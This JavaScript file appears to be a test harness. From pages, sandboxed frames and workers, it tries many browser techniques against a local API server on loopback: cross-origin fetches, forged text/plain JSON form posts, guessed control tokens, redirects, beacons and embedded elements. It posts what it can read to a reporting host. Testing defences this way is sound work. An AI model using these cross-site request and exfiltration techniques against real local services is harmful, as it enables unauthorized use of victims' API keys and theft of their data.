// What a page in somebody's browser can try against a server on loopback, and what it can read of it.
//
// Loaded by pages of several origins, by frames without one, and by workers. ATTACK says whom to attack, where
// home is, and under which label to report. Each attempt is one that some browser feature makes possible.
"use strict";

const BODY = JSON.stringify({ model: "gpt-5.5", input: "spend the key", stream: false, store: false });
const GETS = ["/v1/models", "/health", "/v1/responses", "/v1/responses/resp_1", "/", "/status/state", "/control/model"];
const POSTS = ["/v1/responses", "/v1/responses/compact"];
const KINDS = [
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data",
  "application/json",
  "text/plain; application/json",
  "",
];

const tried = [];
const read = [];

/** Runs one attempt; what it returns is what the page has read. */
async function attempt(name, act, limit = 1000) {
  tried.push(name);
  try {
    const text = await Promise.race([act(), new Promise((done) => setTimeout(done, limit))]);
    if (text !== undefined && text !== null && text !== "") read.push([name, String(text).slice(0, 500)]);
  } catch (_refused) {
    // As it should be: the browser or the server did not let it.
  }
}

async function contentOf(response) {
  const text = await response.text();
  return response.status ? `${response.status} ${text}` : text;
}

function fetches(target) {
  const all = [];
  const one = (path, options) =>
    all.push(
      attempt(`fetch ${JSON.stringify(options).slice(0, 120)} ${path}`, async () =>
        contentOf(await fetch(target + path, options)),
      ),
    );
  for (const mode of ["cors", "no-cors", "same-origin"]) {
    for (const credentials of ["omit", "include"]) {
      for (const path of GETS) one(path, { mode, credentials });
    }
    one("/v1/models", { mode, method: "HEAD" });
    // It would not end by itself, and a browser opens few connections at once.
    one("/status/events", { mode, signal: AbortSignal.timeout(1000) });
    one("/v1/models", { mode, keepalive: true, referrerPolicy: "no-referrer", cache: "no-store" });
    for (const kind of KINDS) {
      one(POSTS[0], { mode, method: "POST", body: BODY, headers: kind ? { "content-type": kind } : {} });
    }
    one(POSTS[1], { mode, method: "POST", body: BODY });
    one(POSTS[0], { mode, method: "POST", body: BODY, credentials: "include", keepalive: true });
    for (const method of ["PUT", "PATCH", "DELETE", "OPTIONS"]) one("/v1/responses/resp_1", { mode, method });
    for (const headers of [{}, { "content-type": "application/json", "x-ccmimolink-control-token": "guessed" }]) {
      one("/control/model", { mode, method: "PUT", body: '{"model":"mimo-v2.5-pro","force":true}', headers });
    }
    const json = new Blob([BODY], { type: "application/json" });
    all.push(
      attempt(`fetch a blob of JSON, ${mode}`, async () =>
        contentOf(await fetch(target + POSTS[0], { mode, method: "POST", body: json })),
      ),
    );
  }
  return all;
}

function redirects(target, home) {
  const all = [];
  for (const status of [301, 302, 303, 307, 308]) {
    for (const mode of ["cors", "no-cors"]) {
      for (const [method, path] of [["GET", "/v1/models"], ["POST", "/v1/responses"]]) {
        const from = `${home}/to?status=${status}&url=${encodeURIComponent(target + path)}`;
        const options = { mode, method, body: method === "POST" ? BODY : undefined };
        all.push(
          attempt(`redirect ${status} ${mode} ${method}`, async () => contentOf(await fetch(from, options))),
        );
      }
    }
  }
  return all;
}

function requestsByXhr(target) {
  const one = (method, path, kind, credentials) =>
    attempt(
      `XHR ${method} ${kind}`,
      () =>
        new Promise((done) => {
          const xhr = new XMLHttpRequest();
          xhr.open(method, target + path);
          xhr.withCredentials = credentials;
          if (kind) xhr.setRequestHeader("content-type", kind);
          xhr.onloadend = () => done(xhr.status ? `${xhr.status} ${xhr.responseText}` : "");
          xhr.send(method === "POST" ? BODY : null);
        }),
    );
  return [
    ...GETS.map((path) => one("GET", path, "", true)),
    ...KINDS.map((kind) => one("POST", POSTS[0], kind, false)),
  ];
}

function streams(target) {
  const events = (path, options) =>
    new Promise((done) => {
      const source = new EventSource(target + path, options);
      source.onopen = () => (source.close(), done("an open event source"));
      source.onerror = () => (source.close(), done(""));
    });
  const socket = (path, protocols) =>
    new Promise((done) => {
      const opened = new WebSocket(target.replace("http", "ws") + path, protocols);
      opened.onopen = () => (opened.send(BODY), done("an open socket"));
      opened.onerror = () => done("");
    });
  return [
    attempt("EventSource", () => events("/v1/models", {})),
    attempt("EventSource with credentials", () => events("/v1/models", { withCredentials: true })),
    attempt("EventSource of the status page", () => events("/status/events", {})),
    attempt("WebSocket", () => socket("/v1/responses", [])),
    attempt("WebSocket with a protocol", () => socket("/v1/models", ["openai-realtime"])),
  ];
}

function beacons(target) {
  const form = new FormData();
  form.append("model", "gpt-5.5");
  const bodies = [BODY, form, new URLSearchParams({ model: "gpt-5.5" })];
  for (const type of KINDS) bodies.push(new Blob([BODY], { type }));
  return bodies.map((body) => attempt("sendBeacon", async () => void navigator.sendBeacon(target + POSTS[0], body)));
}

/** An element in the page; resolves when it has loaded or failed, with what can be read from it. */
function element(tag, attributes, children = "") {
  return attempt(`<${tag} ${Object.keys(attributes)} ${attributes.rel ?? ""}${attributes.as ?? ""}>`, () => {
    const made = document.createElement(tag);
    return new Promise((done) => {
      made.onload = made.onloadedmetadata = () => done(readFrom(made));
      made.onerror = () => done("");
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
      if (tag === "script" && children) made.textContent = children;
      else made.innerHTML = children;
      document.body.append(made);
      if (tag === "video" || tag === "audio") made.load();
    });
  });
}

function readFrom(made) {
  const found = [];
  const look = (get) => {
    try {
      found.push(get());
    } catch (_refused) {
      // Another origin's.
    }
  };
  look(() => made.contentDocument?.body?.innerText);
  look(() => made.contentWindow?.document?.body?.innerText);
  look(() => ATTACK.targets.find((target) => made.contentWindow?.location?.href.startsWith(target)));
  look(() => (made.sheet ? JSON.stringify([...made.sheet.cssRules].map((rule) => rule.cssText)) : "").replace("[]", ""));
  look(() => (made.naturalWidth ? `an image of ${made.naturalWidth}` : ""));
  look(() => (made.duration > 0 ? `a medium of ${made.duration} s` : ""));
  return found.filter(Boolean).join(" ");
}

function elements(target, home) {
  const url = `${target}/v1/models`;
  const moved = `${home}/to?status=302&url=${encodeURIComponent(url)}`;
  const all = [];
  for (const src of [url, moved, `${target}/health`, `${target}/`, `${target}/status/page.js`]) {
    for (const tag of ["img", "script", "iframe", "embed", "video", "audio"]) all.push(element(tag, { src }));
  }
  for (const rel of ["stylesheet", "prefetch", "prerender", "icon", "manifest", "modulepreload", "search", "next"]) {
    all.push(element("link", { rel, href: `${url}?${rel}` }));
  }
  for (const as of ["fetch", "script", "image", "style", "font", "track"]) {
    all.push(element("link", { rel: "preload", as, href: `${url}?${as}` }));
    all.push(element("link", { rel: "preload", as, href: `${url}?${as}&cors`, crossorigin: "use-credentials" }));
  }
  const rules = (how) => JSON.stringify({ [how]: [{ source: "list", urls: [`${url}?${how}`], eagerness: "immediate" }] });
  all.push(
    element("img", { srcset: `${url} 2x` }),
    element("img", { src: url, crossorigin: "use-credentials" }),
    element("img", { src: url, attributionsrc: url }),
    element("script", { src: url, type: "module" }),
    element("script", { src: url, crossorigin: "anonymous" }),
    element("script", { type: "speculationrules" }, rules("prefetch")),
    element("script", { type: "speculationrules" }, rules("prerender")),
    element("object", { data: url }),
    element("object", { data: url, type: "text/html" }),
    element("input", { type: "image", src: url }),
    element("video", { poster: url }),
    element("video", { crossorigin: "anonymous" }, `<source src="${url}"><track default src="${url}">`),
    element("style", {}, `@import "${url}"; @font-face { font-family: f; src: url("${url}?font") } ` +
      `body { background: url("${url}?background"); font-family: f; cursor: url("${url}?cursor"), auto }`),
    element("p", {}, `<svg><image href="${url}?svg"/><use href="${url}#x"/></svg>text in a font`),
    element("iframe", { srcdoc: `<meta http-equiv="refresh" content="0;url=${url}?refresh">` }),
    element("iframe", { srcdoc: `<frameset><frame src="${url}?frame"></frameset>` }),
    element("iframe", { src: url, sandbox: "allow-scripts", referrerpolicy: "no-referrer" }),
    element("iframe", { src: `${home}/reporting?by=uri&target=${encodeURIComponent(target)}` }),
    element("iframe", { src: `${home}/reporting?by=to&target=${encodeURIComponent(target)}` }),
    attempt("import()", () => import(`${url}?import`)),
    attempt("a paint worklet", () => CSS.paintWorklet.addModule(`${url}?worklet`)),
    attempt("a worker", async () => void new Worker(url)),
    attempt("fetchLater", async () => void fetchLater(target + POSTS[0], { method: "POST", body: BODY, activateAfter: 0 })),
    attempt("an identity provider", () =>
      navigator.credentials.get({ identity: { providers: [{ configURL: url, clientId: "x" }] } }),
    ),
    attempt("a TURN server", async () => {
      const port = new URL(target).port;
      const urls = `turn:127.0.0.1:${port}?transport=tcp`;
      const peer = new RTCPeerConnection({ iceServers: [{ urls, username: "POST", credential: "x" }] });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
    }),
  );
  return all;
}

let frames = 0;

function forms(target, home) {
  const all = [];
  const send = (action, method, enctype) =>
    all.push(
      attempt(`form ${method} ${enctype}`, () => {
        const name = `frame${(frames += 1)}`;
        const frame = document.createElement("iframe");
        frame.name = name;
        const form = document.createElement("form");
        Object.assign(form, { action, method, enctype, target: name });
        // As text/plain this is JSON: {"model":"gpt-5.5","input":"spend","x":"="}
        const input = document.createElement("input");
        Object.assign(input, { type: "hidden", name: '{"model":"gpt-5.5","input":"spend","x":"', value: '"}' });
        form.append(input);
        document.body.append(frame, form);
        return new Promise((done) => {
          frame.onload = () => done(readFrom(frame));
          form.submit();
        });
      }),
    );
  for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    send(target + POSTS[0], "POST", enctype);
    send(`${home}/to?status=307&url=${encodeURIComponent(target + POSTS[0])}`, "POST", enctype);
  }
  send(`${target}/v1/models`, "GET", "");
  return all;
}

function windows(target, home) {
  const url = `${target}/v1/models`;
  const moved = `${home}/to?status=302&url=${encodeURIComponent(url)}`;
  const opened = (where, features) =>
    attempt(`window.open ${features}`, async () => {
      const other = window.open(where, "_blank", features);
      await new Promise((done) => setTimeout(done, 800));
      try {
        return other?.document?.body?.innerText;
      } finally {
        other?.close();
      }
    });
  const clicked = (attributes) =>
    attempt(`a click on <a ${Object.keys(attributes)}>`, async () => {
      const link = document.createElement("a");
      for (const [name, value] of Object.entries(attributes)) link.setAttribute(name, value);
      document.body.append(link);
      link.click();
    });
  const blank = window.open("about:blank");
  return [
    opened(url, ""),
    opened(url, "noopener,noreferrer"),
    opened(moved, ""),
    opened(`javascript:location="${url}"`, ""),
    attempt("a navigation of a blank window", async () => void (blank.location = url)),
    clicked({ href: `${url}?link`, target: "_blank", rel: "noreferrer" }),
    clicked({ href: `${url}?download`, download: "x", target: "_blank" }),
    clicked({ href: "#here", ping: target + POSTS[0] }),
  ];
}

/** The same from a worker: its code is a blob's, and its origin the page's. */
function workers(targets, home) {
  const code = `importScripts("${home}/attack.js");\n`;
  return attempt(
    "a worker of the page",
    () =>
      new Promise((done) => {
        const start = `self.ATTACK = ${JSON.stringify({ targets, home })};\n`;
        const worker = new Worker(URL.createObjectURL(new Blob([start, code])));
        worker.onmessage = ({ data }) => {
          tried.push(...data.tried);
          read.push(...data.read);
          done("");
        };
        worker.onerror = () => done("");
        setTimeout(done, 6000);
      }),
    6000,
  );
}

function serviceWorker(targets, home) {
  return attempt(
    "a service worker",
    async () => {
      const query = encodeURIComponent(JSON.stringify({ targets, home: location.origin }));
      const registration = await navigator.serviceWorker.register(`/service-worker.js?${query}`);
      await navigator.serviceWorker.ready;
      const told = await new Promise((done) => {
        navigator.serviceWorker.onmessage = ({ data }) => done(data);
        registration.active.postMessage("go");
      });
      tried.push(...told.tried);
      read.push(...told.read);
    },
    6000,
  );
}

/** Pages without an origin that can be named, each of which reports for itself; the first tries everything. */
function pagesWithoutOrigin() {
  const { home, targets } = ATTACK;
  const page = (label, brief = true) =>
    `<!doctype html><body><script>ATTACK = ${JSON.stringify({ home, targets: targets.slice(0, 1), label, brief })}` +
    `</script><script src="${home}/attack.js"></script>`;
  const frame = (attributes) => {
    const made = document.createElement("iframe");
    for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value);
    document.body.append(made);
  };
  frame({ sandbox: "allow-scripts allow-forms allow-popups", srcdoc: page("sandbox", false) });
  frame({ src: `data:text/html,${encodeURIComponent(page("data"))}` });
  frame({ src: URL.createObjectURL(new Blob([page("blob")], { type: "text/html" })) });
}

/** What the browser measured of other origins' answers must not tell them apart. */
function measured(targets) {
  return attempt("resource timing", async () =>
    performance
      .getEntriesByType("resource")
      .filter((entry) => targets.some((target) => entry.name.startsWith(target)))
      .filter((entry) => entry.responseStatus || entry.transferSize || entry.encodedBodySize)
      .map((entry) => `${entry.name} ${entry.responseStatus} ${entry.transferSize}`)
      .join(" "),
  );
}

async function attackFromPage() {
  const { targets, home, label, nest, brief } = ATTACK;
  const framed = self !== top;
  if (nest) pagesWithoutOrigin();
  const each = (attacks) => Promise.all(targets.flatMap(attacks));
  await each((target) => [...fetches(target), ...requestsByXhr(target), ...streams(target)]);
  if (!brief) {
    await each((target) => [
      ...beacons(target),
      ...redirects(target, home),
      ...forms(target, home),
      ...elements(target, home),
      ...(framed ? [] : windows(target, home)),
    ]);
    await Promise.all([workers(targets, home), serviceWorker(targets, home)]);
  }
  if (!targets.includes(location.origin)) await measured(targets);
  const report = JSON.stringify({ label, origin: self.origin, tried, read });
  await fetch(`${home}/report`, { method: "POST", mode: "no-cors", body: report });
}

async function attackFromWorker() {
  const { targets, home } = self.ATTACK;
  for (const target of targets) {
    await Promise.all([...fetches(target), ...redirects(target, home), ...requestsByXhr(target)]);
    await attempt("importScripts", async () => importScripts(`${target}/v1/models`));
  }
  return { tried, read };
}

if (typeof document !== "undefined") attackFromPage();
else if (self.ATTACK) attackFromWorker().then((told) => self.postMessage(told));
